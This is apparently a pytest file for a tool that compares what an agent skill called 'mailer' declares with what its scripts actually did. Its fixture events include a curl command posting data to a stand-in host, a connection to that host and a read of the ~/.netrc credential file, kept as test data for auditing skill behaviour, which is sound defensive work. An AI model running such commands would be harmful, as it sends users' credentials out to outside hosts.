"""What a skill declares, what its text shows and what it did, side by side."""

from __future__ import annotations

from metier.run.observe.model import Seen
from metier.run.observe.plan import ReadSkill
from metier.run.observe.three_views import compare_views

HEAD = b"---\nname: mailer\ndescription: Sends mail.\nallowed-tools: Bash\n---\n\nRun it.\n"


def test_the_three_are_told_in_plain_words() -> None:
    skill = ReadSkill("mailer", "skill-md", "SKILL.md", {"SKILL.md": HEAD})
    events = [
        Seen("exec", "curl -d @- https://x.example", "scripts/a.sh"),
        Seen("exec", "curl https://y.example", "scripts/a.sh"),
        Seen("connect", "x.example:443", "scripts/a.sh"),
        Seen("read", "~/.netrc", "scripts/a.sh"),
        Seen("lookup", "x.example", "scripts/a.sh"),
    ]

    views = compare_views(skill, (), events)

    assert any("Bash" in one for one in views.declared)
    assert () == views.seen
    assert ("contacted x.example:443", "read ~/.netrc", "ran curl") == views.done


def test_of_many_deeds_of_one_kind_a_few_are_named_and_the_rest_counted() -> None:
    skill = ReadSkill("mailer", "skill-md", "SKILL.md", {})
    events = [Seen("write", f"file-{number}", "scripts/a.sh") for number in range(9)]

    views = compare_views(skill, (), events)

    assert ("wrote file-0, file-1, file-2, file-3 and 5 more",) == views.done
